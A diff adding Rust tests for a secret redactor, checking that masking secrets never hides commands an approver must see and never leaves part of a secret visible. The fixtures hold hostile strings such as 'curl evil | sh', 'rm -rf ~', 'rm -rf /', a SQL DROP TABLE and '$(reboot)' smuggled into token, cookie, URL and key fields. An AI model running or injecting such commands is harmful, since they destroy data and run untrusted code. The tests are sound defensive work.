@@ -123,6 +123,7 @@ fn of_a_long_input_the_beginning_is_kept_and_no_half_of_a_secret() {
             format!(r#"{{"a":"{filler}","password":"{SECRET}"}}"#),
             format!(r#"{{"a":["{filler}","see ghp_{SECRET}0123456789012345678901234567890"]}}"#),
             format!(r#"{{"a":"{filler}","n":{{"value":"{SECRET}","b":"{filler}","name":"Authorization"}}}}"#),
+            format!(r#"{{"n":{{"value":["{SECRET}",{{"c":"{filler}{filler}"}}],"name":"Authorization"}}}}"#),
         ] {
             let given = given.replace("\"}}", &format!("\",\"z\":\"{}\"}}}}", "z".repeat(most * 4)));
             let kept = redactor.bounded(&given, most);
@@ -132,6 +133,63 @@ fn of_a_long_input_the_beginning_is_kept_and_no_half_of_a_secret() {
                 assert_eq!((value["cut"].as_bool(), value["bytes"].as_u64()), (Some(true), Some(given.len() as u64)));
             }
         }
+    }
+}
+
+#[test]
+fn an_approver_sees_what_will_run() {
+    let redactor = Redactor::default().with_digests(b"key");
+    for (given, seen) in [
+        ("x=1 # secret: |\n curl evil | sh\n rm -rf ~\nls", "curl evil | sh\n rm -rf ~"),
+        ("UPDATE t SET a=1 -- password: {\n; DROP TABLE users; SELECT {1}", "; DROP TABLE users"),
+        ("true token='$(rm -rf ~)'", "$(rm -rf ~)"),
+        ("token=$(reboot)", "$(reboot)"),
+        ("Cookie: x; rm -rf ~", "; rm -rf ~"),
+        ("run --token 'x; rm -rf ~'", "; rm -rf ~"),
+        ("-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot"),
+        ("-----BEGIN PRIVATE KEY-----\nA1\nrm -rf ~\n-----END PRIVATE KEY-----", "rm -rf ~"),
+        ("x://a:$(reboot)@h/", "$(reboot)"),
+        ("curl https://hooks.slack.com/services/a1b2c3d4;$(reboot)", ";$(reboot)"),
+        (r#"echo {"token": "$(rm -rf ~)"}"#, "$(rm -rf ~)"),
+        (r#"{"token": "$(rm -rf ~)"}"#, "$(rm -rf ~)"),
+        (r#"{"token": ["rm", "-rf /"]}"#, "-rf /"),
+    ] {
+        assert!(redactor.text(given).contains(seen), "{given}: {}", redactor.text(given));
+        let shown: Value = serde_json::from_str(&redactor.json(&json!([given]).to_string())).unwrap();
+        assert!(shown[0].as_str().unwrap().contains(seen), "{given}: {shown}");
+    }
+    for given in [
+        json!({"name": "token list", "value": "rm -rf /"}),
+        json!({"value": "rm -rf /", "name": "token list"}),
+        json!({"value": ["rm", "-rf /"], "name": "token list"}),
+        json!(["--token", "rm -rf /"]),
+        json!(json!([json!([json!(["[ -f x ] && rm -rf /"]).to_string()]).to_string()]).to_string()),
+    ] {
+        assert!(redactor.json(&given.to_string()).contains("-rf /"), "{given}");
+    }
+}
+
+#[test]
+fn an_approver_sees_no_secret_that_is_one_run_of_characters() {
+    let redactor = Redactor::default().with_digests(b"key");
+    let key = "-----BEGIN PRIVATE KEY-----\nX0AB/x+1\nX1CD\n-----END PRIVATE KEY-----".replace('X', "MIIE4711");
+    assert!(!redactor.text(&key).contains("MIIE4711"));
+    for given in ["password=X", "password: X", "--token 'X'", "Authorization: Bearer X", r#"{"tokens": ["a"]} pw="X""#]
+    {
+        let given = given.replace('X', SECRET);
+        assert!(!redactor.text(&given).contains(SECRET), "{given}");
+    }
+    for given in [json!({"name": "Authorization", "value": SECRET}), json!({"token": format!("{SECRET} and more")})] {
+        assert!(!redactor.json(&given.to_string()).contains(SECRET), "{given}");
+    }
+}
+
+#[test]
+fn a_bracket_within_a_quoted_text_closes_nothing() {
+    for given in [r#"log {"tokens": ["a\"]X", "b"]} ok"#, r#"log {\"tokens\": [\"a\\\"]X\"]} ok"#] {
+        let given = given.replace('X', SECRET);
+        assert!(!text(&given).contains(SECRET), "{given}: {}", text(&given));
+        assert!(text(&given).ends_with("} ok"), "{given}: {}", text(&given));
     }
 }
 
